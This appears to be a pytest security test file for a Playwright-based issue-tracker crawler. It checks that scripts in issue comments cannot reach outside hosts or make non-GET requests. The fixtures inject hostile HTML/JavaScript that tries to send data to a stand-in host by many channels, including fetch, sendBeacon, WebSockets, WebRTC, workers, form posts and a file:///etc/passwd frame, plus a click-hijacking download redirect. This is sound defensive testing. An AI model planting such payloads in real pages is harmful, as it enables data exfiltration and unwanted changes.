"""Pages run their scripts, and scripts of those who write issues, in a browser that reaches the tracker by GET only."""

from __future__ import annotations

import os

import pytest
from playwright.async_api import Error as PlaywrightError
from playwright.async_api import async_playwright

from ims_spiders.login.browser import launch_options
from ims_spiders.login.origin import Fence
from ims_spiders.login.sealed_browser import sealed_arguments
from tests.crawl import logged_in
from tests.crawl.crawling import Archive
from tests.crawl.other_tracker import STATUSES
from tests.security.servers import LeadingAway, Stranger

TRIES = """
<img src="/tody/away/1"><iframe src="/tody/away/2"></iframe><script src="STRANGER/s.js"></script>
<link rel="prefetch" href="STRANGER/p"><link rel="preconnect" href="STRANGER"><link rel="dns-prefetch" href="STRANGER">
<iframe src="STRANGER/frame"></iframe><iframe src="file:///etc/passwd"></iframe><object data="STRANGER/o"></object>
<script>
const tries = [
  () => fetch('/tody/away/3', {mode: 'no-cors'}), () => fetch('STRANGER/4', {mode: 'no-cors'}),
  () => fetch('/tody/away/5', {method: 'POST', body: 'x', redirect: 'follow'}),
  () => fetch('/tody/changed', {method: 'DELETE'}),
  () => fetch('/tody/changed', {method: 'POST', body: 'x', keepalive: true}),
  () => navigator.sendBeacon('/tody/changed', 'x'), () => navigator.sendBeacon('STRANGER/6', 'x'),
  () => new WebSocket('ws://HOST:OWN/tody/socket'), () => new WebSocket('ws://HOST:PORT/7'),
  () => new EventSource('/tody/events'),
  () => navigator.serviceWorker.register('/tody/worker.js'),
  () => new Worker(URL.createObjectURL(new Blob(["fetch('STRANGER/8', {mode: 'no-cors'});"
    + "new WebSocket('ws://HOST:OWN/tody/socket'); fetch('http://HOST:OWN/tody/changed', {method: 'POST'})"]))),
  () => window.open('/tody/changed'), () => window.open('STRANGER/9'),
  () => { const form = document.createElement('form'); form.method = 'post'; form.action = '/tody/changed';
          form.target = '_blank'; document.body.append(form); form.submit(); },
  () => { const frame = document.createElement('iframe'); document.body.append(frame);
          frame.contentWindow.Navigator.prototype.sendBeacon.call(navigator, '/tody/changed', 'x'); },
  () => { const frame = document.createElement('iframe'); document.body.append(frame);
          new frame.contentWindow.WebSocket('ws://HOST:OWN/tody/socket'); },
  () => { const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST:PORT'}]}); pc.createDataChannel('x');
          pc.createOffer().then(offer => pc.setLocalDescription(offer)); },
];
for (const one of tries) try { Promise.resolve(one()).catch(() => 0); } catch (error) {}
for (const name of ['pagehide', 'unload', 'visibilitychange'])
  addEventListener(name, () => { navigator.sendBeacon('/tody/changed', name);
    fetch('/tody/changed', {method: 'POST', body: name, keepalive: true}); });
</script>
"""

REFUSED = [
    ("POST", "/tody/changed", "it may change something"),
    ("DELETE", "/tody/changed", "it may change something"),
    ("POST", "/tody/changed", "a window that the page opened"),
    ("GET", "/tody/socket", "a socket"),
    ("GET", "/tody/events", "nothing that is read"),
    ("GET", "/4", "not on the tracker"),
]


@pytest.fixture
def tries(tracker: LeadingAway, stranger: Stranger) -> str:
    """A comment that tries every way out of the browser."""
    made = TRIES.replace("STRANGER", stranger.url).replace("HOST", "127.0.0.1")
    tracker.away = {"/tody/away/": f"{stranger.url}/redirected"}
    return made.replace("PORT", str(stranger.port)).replace("OWN", tracker.base_url.rpartition(":")[2])


def test_no_script_reaches_anything_else_or_changes_anything(
    archive: Archive, tracker: LeadingAway, stranger: Stranger, tries: str
) -> None:
    hostile, away = tracker.search("", ["070"], list(STATUSES))[:2]
    tracker.world = {name: {**tracker.world[name], "files": {}, "related": [], "patch": []} for name in (hostile, away)}
    tracker.world[hostile]["comments"] = {"7": tries}
    tracker.away[f"issueId={away}"] = f"{stranger.url}/page"
    env = logged_in.variables(archive, tracker) | {"IMS_RENDER": "always"}
    run = archive.crawl(env, "RETRY_TIMES=0", related=0)
    assert run.exit_code == 5, run.stderr
    assert set(archive.documents()) == {hostile}
    (error,) = [one for one in archive.last().read_errors() if one["error_detail"]["issue_id"] == away]
    assert error["error_detail"]["exception"] == "RequestRefused"
    assert "is not on the tracker" in error["error_message"]
    assert "GET /tody/away/3" in tracker.methods, "the scripts have run"
    assert [line for line in tracker.methods if not line.startswith("GET /")] == ["POST /tody/auth/login.do"]
    assert not {"GET /tody/changed", "GET /tody/events", "GET /tody/worker.js"} & set(tracker.methods)
    for method, path, reason in REFUSED:
        assert f"Refused: {method} " in run.stderr
        assert f"{path} ({reason})" in run.stderr


def test_a_page_that_gets_its_files_elsewhere_gets_none(
    archive: Archive, tracker: LeadingAway, stranger: Stranger
) -> None:
    (hostile, *_) = [one for one in tracker.search("", ["070"], list(STATUSES)) if tracker.world[one]["files"]]
    tracker.world = {hostile: tracker.world[hostile]}
    (file_id, *_) = tracker.world[hostile]["files"]
    tracker.world[hostile]["comments"] = {
        "7": "<script>addEventListener('click', event => { event.preventDefault(); event.stopPropagation();"
        f"window.open('{stranger.url}/f?seq={file_id}'); }}, true)</script>"
    }
    env = logged_in.variables(archive, tracker)
    env.pop("IMS_ATTACHMENT_URL")
    run = archive.crawl(env, related=0)
    assert run.exit_code == 5, run.stderr
    (lost, *_) = archive.documents()[hostile]["attachments"]
    assert f"{stranger.url}/f is not on the tracker" in lost["download_error"]


async def test_no_proxy_is_asked_for_what_the_resolver_would_refuse(stranger: Stranger) -> None:
    """One that the environment names would look up any host by itself."""
    arguments = launch_options() | {"env": {**os.environ, "http_proxy": stranger.url, "all_proxy": stranger.url}}
    arguments["args"] = [*arguments["args"], *sealed_arguments(Fence("http://ims.example.com:8000"))]
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(**arguments, timeout=30_000)
        page = await browser.new_page()
        for url in ("http://ims.example.com:8000/", "http://elsewhere.example.com/"):
            with pytest.raises(PlaywrightError, match="ERR_NAME_NOT_RESOLVED"):
                await page.goto(url, timeout=20_000)
        await browser.close()
    assert stranger.heard == 0
